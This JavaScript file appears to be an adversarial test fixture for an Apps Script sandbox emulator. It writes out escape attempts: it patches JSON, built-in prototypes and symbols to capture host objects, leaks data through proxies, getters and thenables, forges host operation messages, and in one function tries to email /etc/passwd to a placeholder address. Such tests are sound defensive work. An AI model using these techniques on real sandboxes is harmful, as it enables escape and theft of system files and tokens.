// biome-ignore-all lint: what somebody would write who wants out
// The second half of escape.code.js, planted with it.
// What the services' own code meets when the language is not what it was.
function tryPatchedJson() {
  const got = [];
  const { stringify, parse } = JSON;
  JSON.stringify = function (value) {
    got.push(...all(this, ...arguments, arguments.callee.caller));
    return stringify(value);
  };
  JSON.parse = function (text) {
    got.push(...all(this, ...arguments, arguments.callee.caller));
    return parse(text);
  };
  PropertiesService.getScriptProperties().getProperty('x');
  Utilities.getUuid();
  JSON.stringify = stringify;
  JSON.parse = parse;
  return got;
}
/** Puts `seen` before a function; while it looks itself, it does not look. */
let looking = false;
function watched(owner, key, got) {
  const old = owner[key];
  const { apply } = Reflect;
  const value = function () {
    if (!looking) {
      looking = true;
      for (let n = 0; n < arguments.length; n++) got.push(...foreign(arguments[n]));
      got.push(...foreign(this), ...foreign(value.caller));
      looking = false;
    }
    return apply(old, this, arguments);
  };
  Object.defineProperty(owner, key, { __proto__: null, configurable: true, writable: true, value });
}
function tryPatchedFunctions() {
  const got = [];
  for (const key of ['call', 'apply', 'bind', 'toString']) watched(Function.prototype, key, got);
  PropertiesService.getScriptProperties().getProperty('x');
  console.log('x');
  return got;
}
function tryPatchedArrays() {
  const got = [];
  for (const key of ['push', 'map', 'join', 'slice', 'concat', 'find', 'some', 'filter', 'flatMap', Symbol.iterator]) {
    watched(Array.prototype, key, got);
  }
  console.log('a', [1]);
  PropertiesService.getScriptProperties().setProperties({ a: 1 });
  return got;
}
function tryPatchedProxies() {
  const got = [];
  for (const owner of [Reflect, Object]) {
    for (const key of Object.getOwnPropertyNames(owner)) {
      if (
        typeof owner[key] === 'function' &&
        key !== 'prototype' &&
        !/^(apply|defineProperty|getPrototypeOf)$/.test(key)
      )
        watched(owner, key, got);
    }
  }
  SpreadsheetApp.getUi;
  Utilities.getUuid();
  return got;
}
function tryObjectPrototype() {
  const got = [];
  const keys = [
    'then',
    'get',
    'set',
    'value',
    'error',
    'native_',
    'code',
    'path',
    '0',
    'message',
    'toJSON',
    'domain',
    '_exiting',
    'filename',
    'importModuleDynamically',
    'noDeprecation',
    'options',
    'fd',
  ];
  for (const key of keys) {
    Object.defineProperty(Object.prototype, key, {
      __proto__: null,
      configurable: true,
      get() {
        got.push(...foreign(this));
      },
      set(v) {
        got.push(...all(this, v));
        Object.defineProperty(this, key, {
          __proto__: null,
          value: v,
          writable: true,
          configurable: true,
          enumerable: true,
        });
      },
    });
  }
  Utilities.getUuid();
  PropertiesService.getScriptProperties().getProperty('x');
  try {
    new Function('(');
  } catch (e) {
    e.stack;
  }
  for (const key of keys) delete Object.prototype[key];
  return got;
}
function trySymbols() {
  const got = [];
  const symbols = [
    Symbol.for('nodejs.util.inspect.custom'),
    Symbol.for('nodejs.util.promisify.custom'),
    Symbol.toPrimitive,
    Symbol.toStringTag,
    Symbol.species,
  ];
  for (const symbol of symbols)
    Object.defineProperty(Object.prototype, symbol, {
      __proto__: null,
      configurable: true,
      get() {
        got.push(...foreign(this));
      },
    });
  console.log({}, [1]);
  Utilities.formatString('%s %d', {}, 1);
  for (const symbol of symbols) delete Object.prototype[symbol];
  return got;
}

// What leaves the context.
const leaving = [];
function tryReturnProxy() {
  return new Proxy([], {
    get(target, key, receiver) {
      leaving.push(...all(receiver, target));
      return Reflect.get(target, key);
    },
    ownKeys: function me(target) {
      leaving.push(...foreign(me.caller));
      return Reflect.ownKeys(target);
    },
  });
}
function tryReturnGetter() {
  return Object.defineProperty([], 0, {
    enumerable: true,
    get: function me() {
      return foreign(this).concat(foreign(me.caller)).join() || 'nothing';
    },
  }).filter((text) => text !== 'nothing');
}
function tryThenable() {
  return {
    then(resolve, reject) {
      resolve(all(resolve, reject, this));
    },
  };
}
async function tryAsync() {
  const got = [];
  await {
    then(resolve, reject) {
      got.push(...all(resolve, reject));
      resolve();
    },
  };
  return got.concat(await Promise.resolve().then(() => foreign(this)));
}
function tryThrownProxy() {
  const got = [];
  const error = new Proxy(new Error('x'), {
    get(target, key, receiver) {
      got.push(...all(receiver));
      return key === 'message' ? got.join() || 'nothing' : Reflect.get(target, key);
    },
  });
  throw error;
}

// What goes to the host instead of what the services send.
function forged(make) {
  const { stringify } = JSON;
  JSON.stringify = (value) => (value && value.op ? make(stringify) : stringify(value));
  try {
    return PropertiesService.getScriptProperties().getProperty('x');
  } finally {
    JSON.stringify = stringify;
  }
}
function tryOperationNames() {
  return ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'].flatMap((op) => {
    try {
      return [String(forged((stringify) => stringify({ op, args: [] })))];
    } catch (e) {
      return e.message === `no operation ${op}` ? [] : [e.message];
    }
  });
}
function forgeText() {
  return forged(() => 'no JSON');
}
function forgeShape() {
  return forged(() => '{"op":{},"args":5}');
}
function forgeDepth() {
  return forged(() => `{"op":"x","args":${'['.repeat(100000)}${']'.repeat(100000)}}`);
}
function forgeOutcome() {
  JSON.stringify = () => '{"returned":{"kind":"html","page":{"content":{}}}}';
  return 1;
}
function forgeError() {
  JSON.stringify = () => '{"error":{"name":{},"message":[],"stack":0}}';
  return 1;
}
function forgeTrigger() {
  return forged((stringify) => stringify({ op: 'triggers.clock', args: ['deepValue', { everyMinutes: 0 }] }));
}
function everyNoHours() {
  ScriptApp.newTrigger('deepValue').timeBased().everyHours(0).create();
}
function forgeMenu() {
  return forged((stringify) => stringify({ op: 'ui.menu', args: [{ caption: 'x', items: 5 }] }));
}
function deepValue() {
  let value = [];
  for (let n = 0; n < 100000; n++) value = [value];
  return value;
}
function mailOfFile() {
  MailApp.sendEmail({
    to: 'a@example.org',
    subject: 'x',
    body: { path: '/etc/passwd' },
    htmlBody: { path: '/etc/passwd' },
  });
}
function onOpen() {
  const { stringify } = JSON;
  const asked = {
    net: ['net.fetch', [[]]],
    mail: ['mail.quota', []],
    token: ['script.identityToken', [false]],
    away: ['book.rights', ['elsewhere']],
    who: ['session.effective', []],
  };
  for (const [name, [op, args]] of Object.entries(asked)) {
    try {
      console.log(name, String(forged(() => stringify({ op, args }))));
    } catch (e) {
      console.log(name, e.message);
    }
  }
}
var tryVariable = function () {
  return [];
};
const tryArrow = () => [];
function tryPrivate_() {
  return [];
}
